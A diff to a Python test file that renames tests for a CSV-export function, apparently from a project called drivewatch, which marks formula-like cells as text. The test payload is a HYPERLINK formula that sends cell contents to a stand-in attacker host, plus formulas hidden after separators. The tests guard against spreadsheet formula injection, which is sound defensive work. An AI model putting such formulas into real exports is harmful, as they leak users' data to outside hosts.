@@ -20,20 +20,20 @@ CALL = 'HYPERLINK("http://evil.example?"&A1)'
     "before",
     ["", " ", "\t", "\r\n", "\N{NO-BREAK SPACE}", "\N{IDEOGRAPHIC SPACE}", '"', "'", " \"'", "\N{BOM}", "\x00"],
 )
-def test_what_a_spreadsheet_would_run_is_text(start: str, before: str) -> None:
+def test_formula_is_marked_as_text(start: str, before: str) -> None:
     marked = str(cell(f"{before}{start}{CALL}"))
     assert marked[0] == "'" and marked.endswith(f"{start}{CALL}")
     assert marked.count("'") - before.count("'") in (1, 2)  # a tab or a line end before it is the end of a cell as well
 
 
 @pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "-1+1", "+1-1", "=", "-", "@sum(a1)", "--5", "1-\n=1", "-5 deg"])
-def test_other_beginnings_that_are_not_plain(text: str) -> None:
+def test_beginnings_that_are_not_plain_text_are_marked(text: str) -> None:
     assert text not in (cell(text), str(cell(text)).lstrip())
     assert str(cell(text)).replace("'", "") == text
 
 
 @pytest.mark.parametrize("text", [f"a;={CALL}", f"a\t={CALL}", f"a\n={CALL}", f"a\r\n ={CALL}", f'a; "={CALL}'])
-def test_a_cell_within_a_cell_is_text_too(text: str) -> None:
+def test_formula_after_a_separator_is_marked_as_text(text: str) -> None:
     """A spreadsheet that separates cells by `;` splits what this file has as one."""
     for part in str(cell(text)).replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
         assert not part.strip(" \"'").startswith("=") or part.startswith("'"), part
@@ -49,11 +49,11 @@ def test_numbers_stay_numbers(value: object) -> None:
 @pytest.mark.parametrize(
     "text", ["", "looking away", "3 in 5 minutes", "a-b", "2026-11-30T06:00:00+00:00", "it's", "x = 1", "é", "\N{BUS}"]
 )
-def test_other_text_stays_as_it_is(text: str) -> None:
+def test_plain_text_is_not_changed(text: str) -> None:
     assert cell(text) == text
 
 
-def test_a_table_is_read_back_as_it_was_but_for_the_mark() -> None:
+def test_csv_reads_back_the_same_apart_from_marks() -> None:
     rows: tuple[dict[str, object], ...] = (
         {"id": -3, "detail": f"={CALL}", "more": 'a "b", c'},
         {"id": 4, "detail": None, "more": "two\nlines"},
@@ -62,7 +62,7 @@ def test_a_table_is_read_back_as_it_was_but_for_the_mark() -> None:
     assert read == [["id", "detail", "more"], ["-3", f"'={CALL}", 'a "b", c'], ["4", "", "two\nlines"]]
 
 
-def test_every_table_that_leaves_drivewatch_is_made_by_this_one_function() -> None:
+def test_only_csv_table_imports_csv() -> None:
     importing = set()
     for path in (file for room in ("admin", "app", "config") for file in (ROOT / room).rglob("*.py")):
         for node in ast.walk(ast.parse(path.read_text())):
